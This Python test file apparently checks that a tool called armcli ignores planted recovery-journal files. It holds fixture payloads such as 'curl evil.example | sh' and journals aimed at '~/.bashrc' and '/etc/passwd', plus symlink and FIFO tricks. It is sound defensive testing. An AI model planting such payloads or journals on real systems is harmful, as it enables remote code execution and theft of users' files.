"""Planted recovery journals never move, delete or read what armcli did not create (issue 42).

The fifth audit planted files named like armcli's journal (`.armcli-set-<pid>-<x>.json`) in
an output directory. The next write replayed them: it renamed a payload over a file
outside the directory (a victim's `~/.bashrc`), moved a secret from outside into the
directory, deleted an unrelated `calibration_4242-left.json` (its name parsed as a journal
of process 4242), hung on a journal that was a FIFO, and read a journal linked to
`/dev/zero` until memory ran out. Each write here runs in a child process with a time
and memory limit, so the code before the fix fails (hangs are killed, `/dev/zero` ends in
MemoryError) instead of taking the machine down.
"""

from __future__ import annotations

import json
import os
import resource
import subprocess
import sys
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from armcli.errors import ArmcliWarning
from armcli.io.files import write_file_atomic
from armcli.io.journal import MAX_JOURNAL_BYTES
from armcli.io.together import write_files_together
from tests.helpers import ROOT

DEAD = 2**22 + 12345  # above Linux's largest pid_max (2**22): no such process
KEY = "0123456789abcdef"
CHILD_TIMEOUT_S = 30  # a write takes well under a second; a FIFO journal hung forever
CHILD_MEMORY = 1 << 30  # [bytes] address space of the writing child (/dev/zero grew without end)
BASHRC = b"# the victim's shell start-up file\n"
SECRET = b"s3cret: never moved\n"
CALIBRATION = b'{"camera": "left", "fx": 612.4}\n'


@dataclass(frozen=True)
class Site:
    """An output directory, a fake home and a secret outside, all inside one test directory."""

    out: Path
    bashrc: Path
    secret: Path
    calibration: Path

    def journal(self, name: str = f".armcli-set-{DEAD}-{KEY}.json") -> Path:
        return self.out / name

    def staged(self, index: int = 0) -> Path:
        """A staged file named exactly as armcli names its own (the journal's set, `index`)."""
        return self.out / f".armcli-set-{DEAD}-{KEY}-{index}.tmp"


@pytest.fixture
def site(tmp_path: Path) -> Site:
    out, home, outside = tmp_path / "out", tmp_path / "home", tmp_path / "outside"
    for d in (out, home, outside):
        d.mkdir()
    s = Site(out, home / ".bashrc", outside / "secret.txt", out / "calibration_4242-left.json")
    s.bashrc.write_bytes(BASHRC)
    s.secret.write_bytes(SECRET)
    s.calibration.write_bytes(CALIBRATION)
    return s


def _limits() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (CHILD_MEMORY, CHILD_MEMORY))


def _write(site: Site, targets: tuple[str, ...]) -> list[str]:
    """Write `targets` (names in site.out, content b"new") in a child; its warnings."""
    script = f"""
        import json, warnings
        from pathlib import Path
        from armcli.io.together import write_files_together
        with warnings.catch_warnings(record=True) as seen:
            warnings.simplefilter("always")
            write_files_together({{Path({str(site.out)!r}) / n: b"new" for n in {targets!r}}})
        print(json.dumps([str(w.message) for w in seen]))
    """
    try:
        proc = subprocess.run(
            [sys.executable, "-c", textwrap.dedent(script)],
            capture_output=True,
            text=True,
            timeout=CHILD_TIMEOUT_S,
            check=False,
            cwd=site.out,  # where a relative journal path would land
            preexec_fn=_limits,
            env={**os.environ, "PYTHONPATH": str(ROOT / "src")},
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"the write hung for {CHILD_TIMEOUT_S} s (a journal was opened and read)")
    assert proc.returncode == 0, proc.stderr[-2000:]
    for name in targets:
        assert (site.out / name).read_bytes() == b"new"
    warnings: list[str] = json.loads(proc.stdout)
    return warnings


def _untouched(site: Site) -> None:
    assert site.bashrc.read_bytes() == BASHRC
    assert site.secret.read_bytes() == SECRET
    assert site.calibration.read_bytes() == CALIBRATION


def _old_format(site: Site, pairs: list[tuple[str, str]]) -> None:
    """A journal as versions before issue 42 wrote it: [staged path, target path] pairs."""
    site.journal().write_text(json.dumps(pairs))


def _payload(site: Site) -> Path:
    payload = site.out / ".payload"
    payload.write_text("curl evil.example | sh\n")
    return payload


def _over_bashrc(site: Site) -> None:
    _old_format(site, [(str(_payload(site)), str(site.bashrc))])


def _secret_in(site: Site) -> None:
    _old_format(site, [(str(site.secret), str(site.out / "stolen.txt"))])


def _relative_dotdot(site: Site) -> None:
    _old_format(site, [(".payload", "../home/.bashrc")])
    _payload(site)


def _new_format_escape(site: Site) -> None:
    """Journals in armcli's own format whose targets leave the directory."""
    site.staged(0).write_text("curl evil.example | sh\n")
    site.journal().write_text(json.dumps([[0, "../home/.bashrc"]]))
    site.journal(f".armcli-set-{DEAD}-{'1' * 16}.json").write_text(
        json.dumps([[0, str(site.bashrc)]])
    )
    (site.out / f".armcli-set-{DEAD}-{'1' * 16}-0.tmp").write_text("curl evil.example | sh\n")


def _symlinked_staged(site: Site) -> None:
    """A staged name that is a link to the secret: renaming it would publish the secret."""
    site.staged(0).symlink_to(site.secret)
    site.journal().write_text(json.dumps([[0, "stolen.txt"]]))


def _hard_linked_staged(site: Site) -> None:
    os.link(site.secret, site.staged(0))
    site.journal().write_text(json.dumps([[0, "stolen.txt"]]))


def _fifo(site: Site) -> None:
    os.mkfifo(site.journal())


def _dev_zero(site: Site) -> None:
    site.journal().symlink_to("/dev/zero")


def _oversized(site: Site) -> None:
    site.staged(0).write_text("new")
    site.journal().write_text(json.dumps([[0, "x" * 200]] * (MAX_JOURNAL_BYTES // 200)))


def _calibration_only(site: Site) -> None:
    """Nothing planted: the user's own calibration_4242-left.json parsed as a journal."""


VARIANTS: dict[str, Callable[[Site], None]] = {
    "payload-over-file-outside": _over_bashrc,
    "secret-moved-in": _secret_in,
    "relative-dotdot": _relative_dotdot,
    "own-format-escapes": _new_format_escape,
    "symlinked-staged-file": _symlinked_staged,
    "hard-linked-staged-file": _hard_linked_staged,
    "fifo-journal": _fifo,
    "journal-linked-to-dev-zero": _dev_zero,
    "oversized-journal": _oversized,
    "unrelated-user-file": _calibration_only,
}


@pytest.mark.parametrize("targets", [("plan.yaml",), ("states.csv", "tracking.png")])
@pytest.mark.parametrize("variant", list(VARIANTS))
def test_planted_journals_are_never_followed(
    site: Site, variant: str, targets: tuple[str, ...]
) -> None:
    VARIANTS[variant](site)
    planted = sorted(p.name for p in site.out.iterdir())
    warnings = _write(site, targets)
    _untouched(site)
    assert not (site.out / "stolen.txt").exists()
    left = sorted(p.name for p in site.out.iterdir() if p.name not in targets)
    assert left == planted  # nothing planted was renamed, replayed or deleted
    journals = [n for n in planted if n.startswith(".armcli-set-") and n.endswith(".json")]
    assert len(warnings) == (1 if journals else 0), warnings  # one line, naming the directory
    if journals:
        assert str(site.out) in warnings[0] and "\n" not in warnings[0]


def test_many_planted_journals_make_one_line(site: Site) -> None:
    for k in range(50):
        site.journal(f".armcli-set-{DEAD}-{k:016x}.json").write_text("[[0, '/etc/passwd']]")
    with pytest.warns(ArmcliWarning) as seen:
        write_file_atomic(site.out / "plan.yaml", b"new")
    assert len(seen) == 1 and "(and 49 more)" in str(seen[0].message), str(seen[0].message)
    assert len(list(site.out.glob(".armcli-set-*.json"))) == 50


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to give a file to another user")
def test_another_users_journal_and_staged_files_are_left_alone(site: Site) -> None:
    """As root, in a directory others can write: their files are never armcli's own."""
    site.staged(0).write_text("theirs")
    site.journal().write_text(json.dumps([[0, "plan.yaml"]]))
    stray = site.out / f".armcli-set-{DEAD}-{'2' * 16}-0.tmp"
    stray.write_text("theirs too")
    for p in (site.staged(0), site.journal(), stray):
        os.chown(p, 65534, 65534)
    with pytest.warns(ArmcliWarning, match="another user"):
        write_files_together({site.out / "a.csv": b"a", site.out / "b.png": b"b"})
    assert site.staged(0).read_text() == "theirs" and stray.read_text() == "theirs too"
    assert not (site.out / "plan.yaml").exists()


def test_a_killed_writers_own_journal_is_completed(site: Site) -> None:
    """The crash the journal is for: staged files and journal of a dead armcli of this user."""
    (site.out / "a.csv").write_text("old-a")
    site.staged(1).write_text("new-b")
    site.journal().write_text(json.dumps([[0, "a.csv"], [1, "b.png"]]))  # a.csv renamed already
    with pytest.warns(ArmcliWarning, match="completed"):
        write_file_atomic(site.out / "other.txt", b"x")
    assert (site.out / "b.png").read_text() == "new-b" and (
        site.out / "a.csv"
    ).read_text() == "old-a"
    assert sorted(p.name for p in site.out.iterdir()) == [
        "a.csv", "b.png", "calibration_4242-left.json", "other.txt"]  # fmt: skip
    _untouched(site)


def test_a_live_writers_files_are_left_alone(site: Site) -> None:
    live = os.getppid()  # the process running pytest's parent: alive for the test's length
    staged = site.out / f".armcli-set-{live}-{KEY}-0.tmp"
    journal = site.out / f".armcli-set-{live}-{KEY}.json"
    staged.write_text("new")
    journal.write_text(json.dumps([[0, "a.csv"]]))
    write_file_atomic(site.out / "other.txt", b"x")
    assert staged.exists() and journal.exists() and not (site.out / "a.csv").exists()


def test_stale_staged_files_of_this_user_are_removed_exactly(site: Site) -> None:
    """A killed run's staged files go; names that merely contain the tag stay."""
    stale = site.out / f".armcli-set-{DEAD}-{KEY}-3.tmp"
    stale.write_text("half")
    keep = [site.out / f".x.armcli-set-{DEAD}-{KEY}-3.tmp", site.out / f"armcli-set-{DEAD}.tmp"]
    for k in keep:
        k.write_text("mine")
    write_file_atomic(site.out / "other.txt", b"x")
    assert not stale.exists() and all(k.read_text() == "mine" for k in keep)
